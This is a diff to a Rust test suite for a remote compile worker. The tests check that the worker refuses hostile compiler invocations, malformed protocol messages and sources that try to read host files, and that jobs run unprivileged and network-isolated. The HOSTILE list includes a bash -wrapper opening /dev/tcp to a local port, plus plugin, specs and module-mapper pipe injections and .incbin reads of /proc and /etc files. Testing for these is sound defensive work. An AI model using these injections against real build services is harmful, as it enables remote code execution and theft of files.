@@ -7,6 +7,8 @@ use std::process::Child;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::Arc;
 
+use xtask::formats::distcc::{self, Answer};
+
 use crate::lab::{codename, Lab};
 
 /// A worker that is ended with the test.
@@ -110,32 +112,155 @@ fn a_build_is_spread_and_a_worker_that_dies_costs_nothing() {
     lab.xtask(&["compare", &a, &b]).ok();
 }
 
+const GCC: &str = "aarch64-linux-gnu-gcc";
+
+/// Sends these bytes to a worker; what comes back.
+fn send(port: u16, bytes: &[u8]) -> Vec<u8> {
+    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    let _ = stream.write_all(bytes);
+    let mut answer = Vec::new();
+    let _ = stream.read_to_end(&mut answer);
+    answer
+}
+
+fn ask(port: u16, command: &str, source: &str) -> Answer {
+    let words: Vec<&str> = command.split(' ').collect();
+    distcc::answer(&send(port, &distcc::request(&words, source))).unwrap()
+}
+
+/// Command lines that would start a program, or read or write a file; each would reach `PORT` if it could.
+const HOSTILE: &[&str] = &[
+    "sh -c a.c -o a.o",
+    "gcc -c a.c -o a.o",
+    "/bin/../usr/bin/GCC -c a.c -o a.o",
+    "GCC -wrapper /usr/bin/perl,-e,ATTACK -c a.c -o a.o",
+    "GCC -wrapper /bin/bash,-c,exec</dev/tcp/127.0.0.1/PORT -c a.c -o a.o",
+    "GCC -c a.c -o a.o -wrapper /usr/bin/env",
+    "GCC -B/tmp -c a.c -o a.o",
+    "GCC -B /tmp -c a.c -o a.o",
+    "GCC -specs=/tmp/specs -c a.c -o a.o",
+    "GCC --specs=/tmp/specs -c a.c -o a.o",
+    "GCC --specs /tmp/specs -c a.c -o a.o",
+    "GCC @/tmp/arguments -c a.c -o a.o",
+    "GCC -fplugin=/tmp/a.so -c a.c -o a.o",
+    "GCC -iplugindir=/tmp -c a.c -o a.o",
+    "GCC -fmodule-mapper=|/bin/id -c a.c -o a.o",
+    "GCC -Wa,-o,/tmp/b.o -c a.c -o a.o",
+    "GCC -Wa,@/tmp/arguments -c a.c -o a.o",
+    "GCC -Wl,-o,/tmp/b -c a.c -o a.o",
+    "GCC -Xassembler -o -Xassembler /tmp/b.o -c a.c -o a.o",
+    "GCC -x c++ -c a.c -o a.o",
+    "GCC -c a.c -o a.o -o /tmp/b.o",
+    "GCC -o/tmp/b.o -c a.c",
+    "GCC -fdump-tree-all=/tmp/dump -c a.c -o a.o",
+    "GCC -save-temps -c a.c -o a.o",
+    "GCC -E a.c",
+    "GCC a.c -o a.out",
+];
+
 #[test]
-fn a_worker_compiles_and_does_nothing_else() {
+fn hostile_requests_start_nothing_and_see_nothing() {
     let lab = Lab::new();
     let worker = Worker::start(&lab, free_port());
-    let ask = |command: &[&str], source: &str| {
-        let mut stream = TcpStream::connect(("127.0.0.1", worker.port)).unwrap();
-        stream.write_all(&xtask::formats::distcc::request(command, source)).unwrap();
-        let mut bytes = Vec::new();
-        let _ = stream.read_to_end(&mut bytes);
-        xtask::formats::distcc::answer(&bytes)
+    let good = || {
+        let answer = ask(worker.port, "GCC -O2 -c a.c -o a.o".replace("GCC", GCC).as_str(), "int a;\n");
+        assert_eq!((answer.status, answer.object.get(..4)), (0, Some(&b"\x7fELF"[..])), "{answer:?}");
     };
-    let gcc = "aarch64-linux-gnu-gcc";
-    let good = ask(&[gcc, "-c", "a.c", "-o", "a.o"], "int a;\n").unwrap();
-    assert_eq!((good.status, &good.object[..4]), (0, &b"\x7fELF"[..]));
-    // Another program, another compiler, the compiler by a path, code of the sender's in the compiler.
-    for command in [
-        &["sh", "-c", "a.c", "-o", "a.o"][..],
-        &["gcc", "-c", "a.c", "-o", "a.o"],
-        &["/bin/../usr/bin/gcc", "-c", "a.c", "-o", "a.o"],
-        &[gcc, "-fplugin=/tmp/a.so", "-c", "a.c", "-o", "a.o"],
-    ] {
-        assert!(ask(command, "int a;\n").is_err(), "{command:?}");
+    good();
+    let (reached, count) = (TcpListener::bind("127.0.0.1:0").unwrap(), Arc::new(AtomicUsize::new(0)));
+    let (port, counter) = (reached.local_addr().unwrap().port().to_string(), Arc::clone(&count));
+    std::thread::spawn(move || {
+        reached.incoming().for_each(|_| {
+            counter.fetch_add(1, Ordering::SeqCst);
+        })
+    });
+    for command in HOSTILE {
+        let answer = ask(worker.port, &command.replace("GCC", GCC).replace("PORT", &port), "int a;\n");
+        assert!(answer.status != 0 && answer.object.is_empty(), "{command}");
+        assert!(answer.stderr.contains("refused by the worker"), "{command}: {}", answer.stderr);
     }
-    // Nothing of this machine is there to be read.
-    let secret = format!("asm(\".incbin \\\"{}\\\"\");\n", lab.path("kernel/Cargo.toml").display());
-    assert_ne!(ask(&[gcc, "-c", "a.c", "-o", "a.o"], &secret).unwrap().status, 0);
+    // What is no request of version 1 gets no answer.
+    let one = String::from_utf8(distcc::request(&[GCC, "-c", "a.c", "-o", "a.o"], "int a;\n")).unwrap();
+    for bytes in [
+        "GET / HTTP/1.1\r\n\r\n".to_owned(),
+        one.replace("DIST00000001", "DIST00000002"),
+        one.replace("DIST00000001", "DIST00000003CDIR00000001/"),
+        one.replace("ARGC00000005", "ARGCffffffff"),
+        one.replace("DOTI00000007", "DOTIffffffff"),
+        one.replace("ARGV00000003a.c", "ARGV00000003a\nc"),
+    ] {
+        assert_ne!(bytes, one);
+        assert_eq!(send(worker.port, bytes.as_bytes()), b"", "{bytes:?}");
+    }
+    // Sources that have the assembler read files: of this machine, of its processes, of another job.
+    let pid = worker.child.id();
+    let mine = lab.path("kernel/Cargo.toml").display().to_string();
+    for file in [mine, format!("/proc/{pid}/cmdline"), "/etc/machine-id".to_owned(), "/tmp/*.i".to_owned()] {
+        let source = format!("asm(\".incbin \\\"{file}\\\"\");\n");
+        let answer = ask(worker.port, &format!("{GCC} -c a.c -o a.o"), &source);
+        assert!(answer.status != 0 && answer.object.is_empty(), "{file}");
+    }
+    good();
+    assert_eq!(count.load(Ordering::SeqCst), 0);
+}
+
+#[test]
+fn a_job_is_alone_and_not_root_and_gone_when_it_ends() {
+    let lab = Lab::new();
+    let worker = Worker::start(&lab, free_port());
+    let source: String = (0..3000).map(|n| format!("int f{n}(int x) {{ return x * {n} + f{n} (x - 1); }}\n")).collect();
+    let port = worker.port;
+    let job = std::thread::spawn(move || ask(port, &format!("{GCC} -O2 -c a.c -o a.o"), &source));
+    let user = rustix::process::geteuid().as_raw();
+    let (mut seen, read) = (None, |pid: u32, what: &str| std::fs::read_to_string(format!("/proc/{pid}/{what}")));
+    while seen.is_none() && !job.is_finished() {
+        for pid in lab.below(worker.child.id()) {
+            let Ok(name) = read(pid, "comm") else { continue };
+            let Ok(status) = read(pid, "status") else { continue };
+            let line = |key: &str| status.lines().find_map(|l| l.strip_prefix(key)).unwrap_or_default().to_owned();
+            let network = std::fs::read_link(format!("/proc/{pid}/ns/net")).ok();
+            if name.trim() == "cc1" {
+                seen = Some((line("Uid:"), line("NoNewPrivs:"), network));
+            }
+        }
+    }
+    assert_eq!(job.join().unwrap().status, 0);
+    let (uid, no_new_privileges, network) = seen.expect("a compiler was seen");
+    let own = if user == 0 { 65534 } else { user };
+    assert!(uid.split_whitespace().all(|id| id == own.to_string()), "{uid}");
+    assert_eq!(no_new_privileges.trim(), "1");
+    assert_ne!(network, std::fs::read_link("/proc/self/ns/net").ok());
+    // The client has its answer a moment before the last process has ended.
+    while !lab.below(worker.child.id()).is_empty() {
+        std::thread::yield_now();
+    }
+}
+
+#[test]
+fn a_permanent_worker_is_a_pair_of_units_that_systemd_understands() {
+    let lab = Lab::new();
+    let suite = codename();
+    let to = lab.path("units").display().to_string();
+    let serve = ["farm", "serve", "--arch", "arm64", "--suite", &suite, "--allow", "192.0.2.0/24", "--units", &to];
+    let said = lab.xtask(&serve).ok().stdout;
+    assert!(said.contains("systemctl enable --now kernel-fork-worker.socket"), "{said}");
+    let service = lab.text("units/kernel-fork-worker@.service");
+    let command = service.lines().find_map(|l| l.strip_prefix("ExecStart=")).unwrap();
+    let words: Vec<&str> = command.split_whitespace().map(|w| w.trim_matches('"')).collect();
+    // As systemd starts it: the connection is standard input, and the home is nowhere.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let client = std::thread::spawn(move || ask(port, &format!("{GCC} -c a.c -o a.o"), "int a;\n"));
+    let connection = std::os::fd::OwnedFd::from(listener.accept().unwrap().0);
+    let mut one = std::process::Command::new(words[0]);
+    one.args(&words[1..]).env_clear().env("PATH", "/usr/bin:/bin").env("KERNEL_FORK_CACHE", "/tmp").stdin(connection);
+    assert!(one.status().unwrap().success());
+    drop(one);
+    assert_eq!(client.join().unwrap().status, 0);
+    let units = [format!("{to}/kernel-fork-worker.socket"), format!("{to}/kernel-fork-worker@.service")];
+    let outcome = lab.run("systemd-analyze", &["verify", "--man=no", &units[0], &units[1]]).ok();
+    let ours = |l: &&str| l.contains("kernel-fork-worker");
+    assert_eq!(outcome.stderr.lines().find(ours), None, "{}", outcome.stderr);
 }
 
 #[test]
